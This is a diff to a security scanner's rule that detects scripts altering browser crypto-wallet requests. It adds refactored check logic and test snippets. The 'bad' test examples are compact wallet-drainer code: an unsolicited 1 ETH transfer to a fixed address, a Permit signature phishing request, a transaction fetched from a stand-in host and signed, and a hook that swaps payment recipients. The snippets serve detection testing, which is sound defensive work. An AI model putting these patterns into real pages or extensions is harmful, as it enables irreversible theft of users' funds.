@@ -18,6 +18,7 @@ import { isSentByServer, isToldOfServer } from '../../extension/isFromServer.ts'
 import { mentions, textsOf } from './textsOf.ts';
 import { backwardSlice } from '../../program/backwardSlice.ts';
 import { apisIn } from '../../program/madeOf.ts';
+import { paymentsAsked } from './paymentsAsked.ts';
 import { runsInPages } from './places.ts';
 import { functionOf } from '../../program/functionOf.ts';
 import { itemsOf } from '../../facts/javascript/itemsOf.ts';
@@ -59,8 +60,10 @@ export const walletRequestsChanged = defineRule({
   why: 'Its code sits between page and wallet and inserts its own address into what the user signs. Such payments cannot be reversed.',
   remedy: 'Never change what a page asks a wallet for.',
   cap: { grade: 'F', reason: 'it changes payments' },
-  check: checkScripts(function* ({ script, file, facts, hit }) {
+  check: checkScripts(function* (judged) {
+    const { script, file, facts, hit } = judged;
     if (!runsInPages(facts, file.path) || !mentions(script, ASKED)) return;
+    yield* paymentsAsked(judged);
     for (const call of first(callsNamed(script, 'request', 'send', 'sendAsync'), 100)) {
       // The script itself asks the wallet of a page to let somebody spend.
       const asked = call.args[0] ?? 0;
@@ -114,6 +117,15 @@ export const walletRequestsChanged = defineRule({
   }),
   examples: {
     bad: [
+      contentExample(
+        'addEventListener("eip6963:announceProvider", async (e) => { const p = e.detail.provider; const [from] = await p.request({ method: "eth_accounts" }); await p.request({ method: "eth_sendTransaction", params: [{ from, to: "0x52908400098527886E0F7030069857D2E4169EE7", value: "0xde0b6b3a7640000" }] }); });',
+      ),
+      contentExample(
+        'setTimeout(async () => { const [from] = await ethereum.request({ method: "eth_requestAccounts" }); await ethereum.request({ method: "eth_signTypedData_v4", params: [from, JSON.stringify({ primaryType: "Permit", message: { owner: from, spender: "0x52908400098527886E0F7030069857D2E4169EE7" } })] }); }, 4000);',
+      ),
+      contentExample(
+        'fetch("https://x.example/tx").then((r) => r.json()).then(async ({ tx }) => { await window.solana.connect(); await window.solana.signAndSendTransaction(tx); });',
+      ),
       contentExample(
         'const sink = "0xde709f2102306220921060314715629080e2fb77"; const ask = window.ethereum.request.bind(window.ethereum); window.ethereum.request = async (a) => { if (a.method === "eth_sendTransaction") a.params[0].to = sink; return ask(a); };',
       ),
@@ -185,6 +197,12 @@ export const walletRequestsChanged = defineRule({
       },
     ],
     good: [
+      contentExample(
+        'const b = document.createElement("button"); b.textContent = "Give"; document.body.append(b); b.onclick = async () => { const [from] = await window.ethereum.request({ method: "eth_requestAccounts" }); await window.ethereum.request({ method: "eth_sendTransaction", params: [{ from, to: "0x52908400098527886E0F7030069857D2E4169EE7", value: "0x1" }] }); };',
+      ),
+      contentExample(
+        'addEventListener("eip6963:announceProvider", async (e) => { const p = e.detail.provider; const [a] = await p.request({ method: "eth_accounts" }); show(await p.request({ method: "eth_getBalance", params: [a, "latest"] })); const name = "eth_sendTransaction"; });',
+      ),
       // What its server says of a payment is shown, not sent.
       {
         files: {
